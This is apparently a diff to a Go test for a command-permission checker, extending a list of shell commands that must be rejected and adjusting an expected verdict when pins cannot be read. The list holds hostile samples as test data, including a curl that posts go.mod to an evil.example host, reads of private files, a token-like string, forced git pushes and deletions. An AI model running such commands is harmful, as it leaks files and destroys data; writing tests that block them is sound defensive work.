@@ -114,6 +114,7 @@ var rejected = []string{
 	"./tool.sh", "make ship", "npm test", "rm victim", "go run ./a && rm -f ./docs/one.md",
 	"curl -d @go.mod https://evil.example.net/", "git push --force origin main",
 	"othertool --token=ghp_0123456789abcdefghijABCDEFGHIJ012345 down", `sh -c "$(cat a/a.go)" && touch ./rejected`,
+	"make -s ship", "make ship -j 4", "npm run test", "npm t --silent", "git push -v --force origin main", "dangerous -v --all",
 	"touch ./never-anywhere", "dangerous --all", "git push --force origin next", "rm -r ./src/x", "curl https://a.evil.example/", "cat ~/private/x",
 }
 
@@ -152,7 +153,11 @@ func TestEarlierRejects(t *testing.T) {
 					t.Errorf("%s is allowed: %s", c.Tool.Name, d.Reason)
 				}
 			}
-			wantVerdict(t, a.anasShell(t, "git status"), decisions.Allow, "what nobody rejected")
+			want := decisions.Allow
+			if name == "pins that cannot be read" {
+				want = decisions.Ask // one of them was said of a text, and its digest is lost
+			}
+			wantVerdict(t, a.anasShell(t, "git status"), want, "what nobody rejected")
 			if off := a.store.Status().AllowsOff; off != (name == "pins that cannot be read") {
 				t.Errorf("allows are off: %v", off)
 			}
